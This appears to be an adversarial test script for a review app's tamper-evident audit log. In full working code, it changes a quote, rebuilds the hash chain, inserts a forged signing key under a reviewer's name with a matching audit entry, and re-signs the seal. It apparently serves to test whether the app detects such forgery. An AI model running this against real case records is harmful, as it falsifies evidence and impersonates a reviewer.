"""Attack: change a quote, recompute the chain, then sign it all again with a key of one's own,
listed in the case under the reviewer's name (the strongest attack on a file alone).

    python forge_key.py CASE OLD NEW NAME
"""

import hashlib
import sqlite3
import sys
from datetime import UTC, datetime
from pathlib import Path

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

sys.path.insert(0, str(Path(__file__).parent))
import recompute_chain  # noqa: E402


def main(case, old, new, name):
    recompute_chain.main(case, old, new)
    key = Ed25519PrivateKey.generate()
    pub = key.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw).hex()
    fpr = hashlib.sha256(bytes.fromhex(pub)).hexdigest()[:32]
    now = datetime.now(UTC).isoformat()
    db = sqlite3.connect(case)
    # A signer row as the app writes it; its audit entry is left out (that alone is reported),
    # so add it as the app would, then recompute the chain again and re-sign every seal.
    cur = db.execute("INSERT INTO signer (reviewer, fingerprint, public_key, added) VALUES (?, ?, ?, ?)",
                     (name, fpr, pub, now))
    after = {"id": cur.lastrowid, "reviewer": name, "fingerprint": fpr, "public_key": pub, "added": now}
    seq, prev = db.execute("SELECT seq, hash FROM audit_head").fetchone()
    row = [seq + 1, now, name, "signer.add", "signer", cur.lastrowid, None,
           recompute_chain.canonical(after), f"signing key ed25519:{fpr}", prev]
    digest = hashlib.sha256(recompute_chain.canonical(row).encode()).hexdigest()
    db.execute("INSERT INTO audit (seq, at, actor, action, entity, entity_id, before, after, detail, prev_hash, hash) "
               "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)", (*row, digest))
    db.execute("UPDATE audit_head SET seq = ?, hash = ?", (seq + 1, digest))
    hashes = dict(db.execute("SELECT seq, hash FROM audit"))
    db.execute("DELETE FROM audit_seal")
    message = f"bwv-review audit seal 1\n1\n{seq + 1}\n{digest}\n{fpr}\n{now}".encode()
    db.execute("INSERT INTO audit_seal (first_seq, last_seq, head_hash, fingerprint, signed_at, signature) "
               "VALUES (1, ?, ?, ?, ?, ?)", (seq + 1, hashes[seq + 1], fpr, now, key.sign(message).hex()))
    db.commit()
    db.close()


if __name__ == "__main__":
    main(*sys.argv[1:5])
